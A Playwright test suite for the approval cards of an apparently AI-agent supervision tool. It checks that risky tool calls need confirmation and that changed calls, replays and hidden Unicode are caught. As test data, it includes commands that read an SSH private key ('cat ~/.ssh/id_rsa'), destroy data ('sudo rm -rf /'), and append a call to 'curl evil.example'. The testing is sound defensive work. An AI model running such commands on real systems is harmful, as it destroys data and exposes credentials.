import assert from 'node:assert/strict';
import { suite } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import type { AdminService } from '../../../../../src/domain/supervision/admin.ts';
import { test } from '../../../../slow.ts';
import { approval, stubAgent } from '../../../stub-agent.ts';
import { serve, token } from '../../../visitor.ts';
import { assertCalm, text, until, visiting, words } from '../../browser.ts';
import { freePort } from '../../free-port.ts';
import { type Risk, type Scripted, scriptedAgent } from '../../scripted-agent.ts';

const long = '[approvals]\nexpires_ms = 600000\n';
const answers = (page: Page) => page.locator('.answers:not([data-settling])');

/** The row of the approval of this risk, as Straylight has it now. */
async function rowOf({ running }: Scripted, risk: Risk) {
  const { approvals } = (await running.http('/api/approvals')).json;
  return approvals.find(({ card }: { card: { risk: Risk } }) => card.risk === risk);
}

/** Holds a button until its outcome is shown; that the button is gone says nothing, since the next card has one too. */
async function hold(button: Locator, until: Locator): Promise<void> {
  await button.hover();
  const { mouse } = button.page();
  await mouse.down();
  await until.waitFor();
  await mouse.up();
}

/** Presses a key in each frame in which a card has just appeared, and says where the focus was then. */
function pressedEarly(page: Page, key: string): Promise<string[]> {
  return page.evaluate(`new Promise(resolve => {
    const focused = new Set();
    const look = () => {
      const isEarly = document.querySelector('.answers')?.hasAttribute('data-settling');
      if (!isEarly && focused.size > 0) return resolve([...focused]);
      if (isEarly) {
        document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '${key}', bubbles: true }));
        focused.add(document.activeElement?.dataset.answer ?? 'none');
      }
      requestAnimationFrame(look);
    };
    look();
  })`);
}

suite('a card on the page', { concurrency: 1 }, () => {
  test('given a question of each risk, when each is approved as its ladder asks, then it counts, and not before', () =>
    scriptedAgent({ config: long }, async scripted => {
      const { running, asks } = scripted;
      await asks('irreversible', 'high', 'medium', 'low');
      const keys = Object.fromEntries(
        await Promise.all(
          (['low', 'medium', 'high', 'irreversible'] as const).map(async risk => [
            risk,
            (await rowOf(scripted, risk)).card,
          ]),
        ),
      );
      await visiting(running, { hash: `#/approvals/${keys['low'].key}` }, async visit => {
        const { page } = visit;
        const show = (risk: Risk) => page.goto(`${running.url}/#/approvals/${keys[risk].key}`);
        const risk = page.locator('.card .risk-word');
        const state = async (risk: Risk) => (await rowOf(scripted, risk)).state;

        await page.locator('.card h2', { hasText: keys['low'].intent }).waitFor();
        assert.equal(await words(risk), 'Risk: low');
        await answers(page)
          .getByRole('button', { name: /^Approve/ })
          .click();
        await page.locator('.card h2', { hasText: keys['low'].intent }).waitFor({ state: 'detached' });
        assert.equal(await state('low'), 'granted');

        await show('medium');
        await page.locator('.card h2', { hasText: keys['medium'].intent }).waitFor();
        assert.equal(await words(risk), 'Risk: medium');
        await answers(page)
          .getByRole('button', { name: /^Approve/ })
          .click();
        const yes = answers(page).getByRole('button', { name: /^Yes/ });
        await yes.waitFor();
        assert.equal(await state('medium'), 'pending', 'one tap is none');
        await yes.click();
        await page.locator('.undo-bar', { hasText: keys['medium'].intent }).waitFor();
        assert.equal(await state('medium'), 'granted');

        await show('high');
        await page.locator('.card h2', { hasText: keys['high'].intent }).waitFor();
        assert.equal(await words(risk), 'Risk: high');
        const held = answers(page).locator('.hold');
        await held.hover();
        await page.mouse.down();
        await page.mouse.up();
        assert.equal(await state('high'), 'pending', 'a short press is none');
        await hold(held, page.locator('.undo-bar', { hasText: keys['high'].intent }));
        assert.equal(await state('high'), 'granted');

        await show('irreversible');
        await page.locator('.card h2', { hasText: keys['irreversible'].intent }).waitFor();
        assert.equal(
          await words(risk),
          'Risk: very high: cannot be undone, except for files of the workspace, which undo restores',
        );
        // it stays within the sandbox, so no word is asked for
        const within = answers(page).locator('.hold');
        await hold(within, page.locator('.undo-bar', { hasText: keys['irreversible'].intent }));
        const after = await rowOf(scripted, 'irreversible');
        assert.deepEqual([after.state, after.decidedBy], ['granted', 'web']);
        assertCalm(visit);
      });
    }));

  test('given a yes that may be taken back, when it is, then nothing runs, and the card says so', () =>
    scriptedAgent({ config: '[approvals]\nexpires_ms = 600000\nundo_window_s = 50\n' }, async scripted => {
      await scripted.asks('high');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        const bar = page.locator('.undo-bar li');
        await hold(answers(page).locator('.hold'), bar);
        assert.match(await words(bar), /^Approved: Run “cat ~\/\.ssh\/id_rsa_\d+”\. starts in \d+ s Undo$/);
        await page.keyboard.press('u');
        await until(page, 'document.activeElement?.textContent === "Undo"');
        await page.keyboard.press('Enter');
        await bar.waitFor({ state: 'detached' });
        assert.match(await words(page.locator('.undo-done')), /^Undone\. Not run\. Run “cat/);
        const { state, reason, card } = await rowOf(scripted, 'high');
        assert.deepEqual([state, reason], ['denied', 'taken back']);
        await page.goto(`${scripted.running.url}/#/approvals/${card.key}`);
        assert.match(await words(page.locator('.answers-over')), /^Undone before it started in the browser at/);
        assert.deepEqual(scripted.agent.tables.rows("SELECT tool FROM tool_calls WHERE outcome = 'done'"), [
          { tool: 'execute_command' },
        ]);
        assertCalm(visit);
      });
    }));

  test('given a card on the screen, when it is answered elsewhere first, then it says by whom, and takes no answer any more', () =>
    scriptedAgent({ config: long }, async scripted => {
      await scripted.asks('high');
      const { card } = await rowOf(scripted, 'high');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        await answers(page).waitFor();
        const { code } = await scripted.agent.straylight('approvals', 'deny', card.key);
        assert.equal(code, 0);
        const over = page.locator('.answers-over');
        await over.waitFor();
        assert.match(await words(over), /^Denied on the command line at \d\d:\d\d:\d\d\. Continue$/);
        assert.equal(await page.locator('.hold').count(), 0);
        await page.getByRole('button', { name: 'Continue' }).click();
        await page.getByText('No pending approvals.').waitFor();
        assertCalm(visit);
      });
    }));

  test('given answers that name another card, were given before or name none, when they are sent, then none counts', () =>
    scriptedAgent({ config: '[approvals]\nexpires_ms = 600000\nundo_window_s = 0\n' }, async scripted => {
      const { running } = scripted;
      await scripted.asks('high');
      const high = await rowOf(scripted, 'high');
      await visiting(running, { hash: `#/approvals/${high.card.key}` }, async visit => {
        const { page } = visit;
        let sent: Record<string, unknown> = {};
        // what the page shows is not what would run: as if it had been drawn from another card
        await page.route('**/decision', route => {
          sent = route.request().postDataJSON();
          return route.continue({ postData: JSON.stringify({ ...sent, digest: 'e'.repeat(64) }) });
        });
        await hold(answers(page).locator('.hold'), page.locator('.card-notice'));
        assert.match(await words(page.locator('.card-notice')), /^Not decided\. The call has changed/);
        assert.equal((await rowOf(scripted, 'high')).state, 'pending');
        await page.unroute('**/decision');
        await hold(answers(page).locator('.hold'), page.getByText('No pending approvals.'));
        assert.equal((await rowOf(scripted, 'high')).state, 'granted');

        const path = `/api/approvals/${high.card.key}/decision`;
        const again = await running.http(path, { ...sent, commandId: 'replayed' });
        assert.deepEqual([again.status, again.json.error.why], [409, 'decided']);
        const foreign = await running.http('/api/approvals/AAAAAAAA/decision', { ...sent, commandId: 'foreign' });
        assert.equal(foreign.status, 404);
        assertCalm(visit);
      });
    }));

  test('given a card whose time is over, when it is answered all the same, then that does not count, and the card says so', () =>
    scriptedAgent({ config: '[approvals]\nexpires_ms = 4000\n' }, async scripted => {
      const { running } = scripted;
      await scripted.asks('medium');
      const medium = await rowOf(scripted, 'medium');
      await visiting(running, { hash: `#/approvals/${medium.card.key}` }, async visit => {
        const { page } = visit;
        const over = page.locator('.answers-over');
        await over.waitFor();
        assert.match(await words(over), /^Expired/);
        const { digest, nonce } = medium.card;
        const late = { commandId: 'late', decision: 'approve', confirmation: 'yes', digest, nonce, rev: medium.rev };
        const { status, json } = await running.http(`/api/approvals/${medium.card.key}/decision`, late);
        assert.deepEqual([status, json.error.code], [409, 'expired']);
        assert.deepEqual(scripted.agent.tables.rows("SELECT outcome FROM tool_calls WHERE tool = 'web_fetch'"), [
          { outcome: 'expired' },
        ]);
        assertCalm(visit);
      });
    }));

  test('given three that are harmless and alike, when one answer is given, then each is granted by itself', () =>
    scriptedAgent({ config: long }, async scripted => {
      await scripted.asks('low', 'low', 'low');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        const card = page.locator('.card', { hasText: 'Approve 3 calls of web_fetch? All are low risk.' });
        await card.waitFor();
        assert.equal(await card.locator('.card-batch li').count(), 3);
        await page.getByRole('button', { name: /^Approve all 3/ }).click();
        await page.getByText('No pending approvals.').waitFor();
        assert.deepEqual(scripted.agent.tables.rows('SELECT state, decided_by AS "by" FROM approvals'), [
          { state: 'granted', by: 'web' },
          { state: 'granted', by: 'web' },
          { state: 'granted', by: 'web' },
        ]);
        assertCalm(visit);
      });
    }));

  test('given keys, when they are pressed, then they lead to an answer and give none, and none works in the first moments', () =>
    scriptedAgent({ config: long }, async scripted => {
      await scripted.asks('low', 'high');
      const low = await rowOf(scripted, 'low');
      const high = await rowOf(scripted, 'high');
      await visiting(scripted.running, {}, async visit => {
        const { page } = visit;
        const focused = () => page.evaluate('document.activeElement?.dataset.answer');
        const early = pressedEarly(page, 'a');
        await page.evaluate(`location.hash = '#/approvals/${low.card.key}'`);
        assert.deepEqual(await early, ['none'], 'the card has just appeared');
        await answers(page).waitFor();
        for (const [key, answer] of [
          ['a', 'approve'],
          ['e', 'edit'],
          ['d', 'deny'],
          ['w', 'reason'],
        ] as const) {
          await page.keyboard.press(key);
          assert.equal(await focused(), answer);
        }
        assert.equal((await rowOf(scripted, 'low')).state, 'pending');
        const earlyAgain = pressedEarly(page, 'd');
        await page.keyboard.press('j');
        assert.ok(!(await earlyAgain).includes('deny'));
        await page.locator('.card h2', { hasText: high.card.intent }).waitFor();
        await answers(page).waitFor();
        await page.keyboard.press('d');
        await page.keyboard.press('Enter');
        await page.locator('.card h2', { hasText: low.card.intent }).waitFor();
        assert.equal((await rowOf(scripted, 'high')).state, 'denied');
        assertCalm(visit);
      });
    }));

  test('given a call that may stand, when it is approved for its conversation, then the same one runs there without a question, until that is revoked', () =>
    scriptedAgent({ config: '[approvals]\nexpires_ms = 600000\nundo_window_s = 0\n' }, async scripted => {
      const settings = { name: 'write_file', arguments: { path: 'package.json', content: '{}' } };
      scripted.play({ toolCalls: [settings] });
      await scripted.say('Write it.');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        const one = page.locator('.standing-one');
        await answers(page)
          .getByRole('button', { name: /^Approve here/ })
          .click();
        await answers(page).getByRole('button', { name: /^Yes/ }).click();
        await one.waitFor();
        assert.match(
          await words(one),
          /^write_file · content \{\} · path package\.json in web:main, until .*, used 0 of 100 times Revoke$/,
        );
        scripted.play({ toolCalls: [settings] });
        await scripted.say('Write it again.');
        const outcomes = () =>
          scripted.agent.tables.rows('SELECT outcome FROM tool_calls').map(({ outcome }) => outcome);
        while (outcomes().length < 2) await scripted.running.http('/api/approvals');
        assert.deepEqual(outcomes(), ['done', 'done']);
        assert.equal(
          (await scripted.running.http('/api/approvals')).json.approvals.length,
          1,
          'nothing was asked again',
        );
        await one.getByRole('button', { name: 'Revoke' }).click();
        await one.waitFor({ state: 'detached' });
        assertCalm(visit);
      });
    }));

  test('given a call that is changed on its card, when it is put so, then the changed one is asked about, and the first never runs', () =>
    scriptedAgent({ config: '[approvals]\nexpires_ms = 600000\nundo_window_s = 0\n' }, async scripted => {
      await scripted.asks('high');
      const was = await rowOf(scripted, 'high');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        await answers(page)
          .getByRole('button', { name: /^Change it/ })
          .click();
        const command = page.getByLabel(/^command/);
        await until(page, 'document.activeElement.value?.startsWith("cat ")');
        assert.equal(await command.inputValue(), was.card.exact);
        const put = page.getByRole('button', { name: /^Submit the change/ });
        assert.equal(await put.isDisabled(), true, 'nothing is changed');
        await command.fill('rm -rf changed-by-me');
        await put.click();
        await page.locator('.card .risk-word', { hasText: 'except for files of the workspace' }).waitFor();
        assert.equal(await words(page.locator('.card-exact')), 'rm -rf changed-by-me');
        await answers(page)
          .getByRole('button', { name: /^Deny It/ })
          .click();
        await page.getByText('No pending approvals.').waitFor();
        await page.goto(`${scripted.running.url}/#/approvals/${was.card.key}`);
        assert.match(
          await words(page.locator('.answers-over')),
          /^Replaced by a changed call in the browser at .* Not run\./,
        );
        assert.deepEqual(
          scripted.agent.tables.rows('SELECT outcome FROM tool_calls ORDER BY ended_at').map(({ outcome }) => outcome),
          ['done', 'denied'],
        );
        await page.goto(`${scripted.running.url}/#/chat/session%3Aweb%3Amain`);
        await page.getByText('Run “rm -rf changed-by-me”. Changed by you.').waitFor();
        await page.goto(`${scripted.running.url}/#/audit`);
        await page.locator('.audit-line', { hasText: 'approval.ended' }).getByText('changed by you').waitFor();
        assertCalm(visit);
      });
    }));

  test('given a card that is gone, when the pending ones are asked for, then the one that waits is shown', () =>
    scriptedAgent({ config: long }, async ({ running, asks }) => {
      await asks('high');
      await visiting(running, { hash: '#/approvals/gone' }, async visit => {
        const { page } = visit;
        await page.getByRole('link', { name: 'See pending approvals' }).click();
        await page.locator('.card h2').waitFor();
        assert.equal(await page.locator('.empty').count(), 0);
        assertCalm(visit);
      });
    }));

  test('given a call that is changed to one that must never run, when it is put so, then it says why at once, and the first still waits', () =>
    scriptedAgent({ config: long }, async scripted => {
      const { running, asks } = scripted;
      await asks('irreversible');
      const { card } = await rowOf(scripted, 'irreversible');
      await visiting(running, { hash: '#/approvals' }, async ({ page }) => {
        await answers(page)
          .getByRole('button', { name: /^Change it/ })
          .click();
        await page.getByLabel('command').fill('sudo rm -rf /');
        await page.getByRole('button', { name: /^Submit the change/ }).click();
        await page.getByText(/^Not allowed: sudo runs something as another user, or as root\./).waitFor();
        assert.equal(await page.getByLabel('command').inputValue(), 'sudo rm -rf /');
        const now = await rowOf(scripted, 'irreversible');
        assert.deepEqual([now.state, now.card.key], ['pending', card.key]);
        await page.getByRole('button', { name: 'Back' }).click();
        await answers(page).locator('[data-answer="deny"]').focus();
        await page.keyboard.press('Enter');
        const bar = page.locator('.undo-done');
        await bar.waitFor();
        assert.equal(await words(bar), `Denied in the browser: ${card.intent} See what came of it`);
        assert.equal(await bar.getByRole('link').getAttribute('href'), '#/chat/session%3Aweb%3Amain');
        await until(page, `document.activeElement.tagName === 'H1'`);
      });
    }));

  test('given a reason, when a card is denied with it, then the agent reads it', () =>
    scriptedAgent({ config: long }, async scripted => {
      await scripted.asks('medium');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        await answers(page)
          .getByRole('button', { name: /^Deny with a reason/ })
          .click();
        await page.getByLabel(/^Why not/).fill('Ask my sister first.');
        await page.locator('.answers-text button[type=submit]:not([aria-disabled])').click();
        await page.getByText('No pending approvals.').waitFor();
        const { state, reason } = await rowOf(scripted, 'medium');
        assert.deepEqual([state, reason], ['denied', 'Ask my sister first.']);
        assertCalm(visit);
      });
    }));
});

suite('a hurry', { concurrency: 1 }, () => {
  test('given a reason that is typed and sent as fast as the keys go, then it counts', () =>
    scriptedAgent({ config: long }, async scripted => {
      await scripted.asks('medium');
      await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
        const { page } = visit;
        await answers(page).waitFor();
        await page.keyboard.press('w');
        await page.keyboard.press('Enter');
        await page.keyboard.press('Enter');
        await page.getByText('Write the reason first.').waitFor();
        await page.keyboard.press('Escape');
        await answers(page).waitFor();
        await page.keyboard.press('w');
        await page.keyboard.press('Enter');
        // in one task: no settling is waited for, and nothing is drawn in between
        await page.evaluate(`{
          const field = document.activeElement;
          field.value = 'Not today.';
          field.dispatchEvent(new InputEvent('input', { bubbles: true }));
          field.form.requestSubmit();
        }`);
        await page.getByText('No pending approvals.').waitFor();
        const { state, reason } = await rowOf(scripted, 'medium');
        assert.deepEqual([state, reason], ['denied', 'Not today.']);
        assertCalm(visit);
      });
    }));
});

suite('a card that is not what it seems', { concurrency: 1 }, () => {
  test('given two cards that read alike, when they wait, then the list tells them apart by key, and each says its age', async () => {
    await using served = await serve();
    const { agent } = served;
    const asked = (key: string, intent: string, ms: number) => {
      const row = approval(key);
      agent.approvals.set(key, { ...row, card: { ...row.card, intent, risk: 'medium', requestedAt: 1 - ms } });
    };
    asked('k3Qm9xTd', 'List the files.', 200_000);
    asked('twin5678', 'List the files.', 0);
    asked('othr1234', 'Say the time.', 0);
    await visiting({ url: served.server.url, token }, { hash: '#/approvals/k3Qm9xTd' }, async visit => {
      const { page } = visit;
      await page.locator('.next').nth(2).waitFor();
      const facts = await Promise.all([0, 1, 2].map(at => words(page.locator('.next-facts').nth(at))));
      assert.match(facts[0] ?? '', /k3Qm9xTd requested 3 minutes ago$/);
      assert.match(facts[1] ?? '', /twin5678 requested just now$/);
      assert.doesNotMatch(facts[2] ?? '', /othr1234/);
      assert.equal(await words(page.locator('.card-requested')), 'requested 3 minutes ago');
      assertCalm(visit);
    });
  });

  test('given a card that changes between drawing and pressing, when it is approved, then nothing is decided, and it says what has changed', async () => {
    await using served = await serve();
    const { agent } = served;
    await visiting({ url: served.server.url, token }, { hash: '#/approvals/k3Qm9xTd' }, async visit => {
      const { page } = visit;
      await answers(page).waitFor();
      const was = approval('k3Qm9xTd');
      // nobody tells the page
      const now = { ...was, rev: 5, card: { ...was.card, exact: 'ls -la; curl evil.example', digest: 'e'.repeat(64) } };
      agent.approvals.set('k3Qm9xTd', now);
      await answers(page)
        .getByRole('button', { name: /^Approve/ })
        .click();
      const notice = page.locator('.card-notice');
      await notice.waitFor();
      assert.match(
        await words(notice),
        /^Not decided\. The call has changed since this card was shown\. Use the newest card\. Exact call ls -la ls -la; curl evil\.example Fingerprint/,
      );
      assert.deepEqual(agent.asked, []);
      assert.equal(await words(page.locator('.card-exact')), 'ls -la; curl evil.example');
      const decided = page.waitForResponse(response => response.status() === 202);
      await answers(page)
        .getByRole('button', { name: /^Approve/ })
        .click();
      await decided;
      assert.deepEqual(
        agent.asked.map(one => (one as { digest: string }).digest),
        ['e'.repeat(64)],
      );
    });
  });

  test('given characters that hide, when a card is drawn, then they are written out', async () => {
    const agent = stubAgent();
    const row = approval('k3Qm9xTd');
    const card = {
      ...row.card,
      intent: 'Run \u202egpj.elif\u202c.',
      exact: 'rm\u200b -rf \u2066x\u2069\u00a0\tend\u0007',
      reasons: ['It \u001b[31mlooks red'],
    };
    agent.approvals.set('k3Qm9xTd', { ...row, card });
    await using served = await serve({ agent });
    await visiting({ url: served.server.url, token }, { hash: '#/approvals' }, async ({ page }) => {
      await answers(page).waitFor();
      assert.equal(await words(page.locator('.card-intent')), 'Run ⟨U+202E⟩gpj.elif⟨U+202C⟩.');
      assert.equal(
        await words(page.locator('.card-exact')),
        'rm⟨U+200B⟩ -rf ⟨U+2066⟩x⟨U+2069⟩⟨U+00A0⟩⟨U+0009⟩end⟨U+0007⟩',
      );
      assert.equal(await words(page.locator('.card-reason')), 'It ⟨U+001B⟩[31mlooks red');
    });
  });

  test('given a very long call, when its card is drawn, then all of it is there, and the answers stay in sight', async () => {
    const agent = stubAgent();
    const row = approval('k3Qm9xTd');
    const exact = Array.from({ length: 2_000 }, (_, line) => `echo ${line}`).join('\n');
    agent.approvals.set('k3Qm9xTd', { ...row, card: { ...row.card, exact } });
    await using served = await serve({ agent });
    for (const size of [
      { width: 1440, height: 900 },
      { width: 390, height: 844 },
      { width: 390, height: 560 },
    ])
      await visiting({ url: served.server.url, token }, { hash: '#/approvals', ...size }, async ({ page }) => {
        await answers(page).waitFor();
        assert.equal(await page.locator('.card-exact').textContent(), exact);
        for (const button of await answers(page).locator('button').all()) {
          const box = await button.boundingBox();
          assert.ok(box && box.y >= 0 && box.y + box.height <= size.height, `${JSON.stringify(box)} in ${size.height}`);
        }
      });
  });
  test('given a call that is padded, when its card is drawn, then how it ends and the answers are in sight without a scroll', async () => {
    const end = 'rm -r old';
    const gaps = [
      ...['\n'.repeat(900), '\t '.repeat(900), '\u3000'.repeat(900), '# x\n'.repeat(900), '# x\n# y\n'.repeat(900)],
      ...['#'.repeat(9_000), '\u202e'.repeat(900), 'a\u0301'.repeat(900), `#${'\u0301'.repeat(900)}`],
      Array.from({ length: 900 }, (_, line) => `# ${line}`).join('\n'),
    ];
    const agent = stubAgent();
    const row = approval('k3Qm9xTd');
    await using served = await serve({ agent });
    for (const gap of gaps) {
      const exact = `echo a\n${gap}\n${end}`;
      agent.approvals.set('k3Qm9xTd', { ...row, card: { ...row.card, exact, intent: `Run “${exact}”.` } });
      for (const size of [
        { width: 1440, height: 900 },
        { width: 390, height: 844 },
      ])
        await visiting({ url: served.server.url, token }, { hash: '#/approvals', ...size }, async ({ page }) => {
          await answers(page).waitFor();
          const last = page.locator('.card-exact, .card-end').last();
          assert.ok((await last.textContent())?.endsWith(end), JSON.stringify(gap.slice(0, 8)));
          const [seen, buttons] = await Promise.all([last.boundingBox(), answers(page).boundingBox()]);
          assert.ok(seen && buttons && buttons.y + buttons.height <= size.height, JSON.stringify([seen, buttons]));
          assert.ok(
            seen.y + seen.height <= buttons.y,
            `${JSON.stringify([seen, buttons])} ${JSON.stringify(gap.slice(0, 8))}`,
          );
        });
    }
  });
});

suite('a card when Straylight dies', { concurrency: 1 }, () => {
  test('given a yes on its way, when Straylight is killed before it can say so and is started again, then the page knows without a reload, and what was asked runs once', async () =>
    scriptedAgent(
      { config: '[approvals]\nexpires_ms = 600000\nundo_window_s = 2\n', web: `port = ${await freePort()}` },
      async scripted => {
        await scripted.asks('high', 'medium');
        const high = await rowOf(scripted, 'high');
        await visiting(scripted.running, { hash: `#/approvals/${high.card.key}` }, async visit => {
          const { page } = visit;
          await answers(page).waitFor();
          await page.evaluate('globalThis.isSamePage = true');
          await page.route('**/decision', async route => {
            await route.fetch();
            await scripted.running.kill();
            // taking the route away may have ended it already
            await route.abort().catch(() => {});
          });
          await hold(answers(page).locator('.hold'), page.locator('.bar-lost'));
          await page.unroute('**/decision');
          assert.equal(await page.locator('.card h2', { hasText: high.card.intent }).count(), 1, 'the card stays');
          assert.equal(await page.locator('[data-answer]:enabled').count(), 0, 'and takes no answer');

          const again = await scripted.agent.start();
          await page.locator('.bar-lost').waitFor({ state: 'detached' });
          const over = page.locator('.answers-over');
          await over.waitFor();
          assert.match(await words(over), /^Approved in the browser at/);
          await page.getByRole('button', { name: 'Continue' }).click();
          await page.locator('.card .risk-word', { hasText: 'Risk: medium' }).waitFor();
          await answers(page).getByRole('button', { name: /^Deny/ }).first().click();
          await page.getByText('No pending approvals.').waitFor();
          const settled = () => scripted.agent.tables.rows('SELECT outcome FROM tool_calls');
          while (settled().length < 3) await again.http('/api/approvals');
          assert.deepEqual(
            scripted.agent.tables.rows("SELECT tool, outcome FROM tool_calls WHERE outcome <> 'done' ORDER BY tool"),
            [{ tool: 'web_fetch', outcome: 'denied' }],
          );
          assert.equal(scripted.agent.tables.value('SELECT count(*) FROM grants WHERE consumed_at IS NOT NULL'), 1);
          assert.equal(await page.evaluate('globalThis.isSamePage'), true);
          assertCalm(visit);
        });
      },
    ));
});

suite('an incident on the page', { concurrency: 1 }, () => {
  test('given a trouble that nothing helped, when a choice is made, then that one is answered, and what forgets asks once more', async () => {
    const agent = stubAgent();
    agent.approvals.clear();
    const needs = [
      {
        kind: 'incident',
        id: 'incident:7',
        since: Date.now(),
        about: 'session:web:main',
        trouble: 'wedged' as const,
        text: 'session:web:main is stuck. `straylight actors show session:web:main` tells more.',
        choices: ['retry', 'fresh', 'leave'] as const,
      },
    ];
    const state = agent.reader.state;
    const chosen: unknown[] = [];
    const admin = { choose: async (...answer: readonly unknown[]) => void chosen.push(answer) };
    const reader = { ...agent.reader, needs: () => needs, state: () => ({ ...state(), now: Date.now(), needs }) };
    const levers = { ...agent.levers, admin: admin as unknown as AdminService };
    await using served = await serve({ agent: { ...agent, reader, levers } });
    await visiting({ url: served.server.url, token }, { hash: '#/approvals' }, async visit => {
      const { page } = visit;
      const card = page.locator('.card-incident');
      await card.waitFor();
      assert.match(
        await words(card),
        /^Remedies failed waiting .* session:web:main is stuck\. straylight actors show session:web:main tells more\. Actor session:web:main Incident incident:7/,
      );
      assert.equal(await text(card.locator('code')), 'straylight actors show session:web:main');
      assert.equal(
        await card.getByRole('link', { name: 'session:web:main' }).getAttribute('href'),
        '#/actor/session%3Aweb%3Amain',
      );
      assert.equal(await words(page.locator('.badge')), '1 waiting');
      await page.getByRole('button', { name: /^Start afresh/ }).click();
      await page.getByRole('button', { name: /^Forget and start/ }).waitFor();
      assert.deepEqual(chosen, []);
      const taken = page.waitForResponse(response => response.status() === 202);
      await page.getByRole('button', { name: /^Try again/ }).click();
      await taken;
      assert.deepEqual(chosen, [['7', 'retry', 'web']]);
      assertCalm(visit);
    });
  });
});
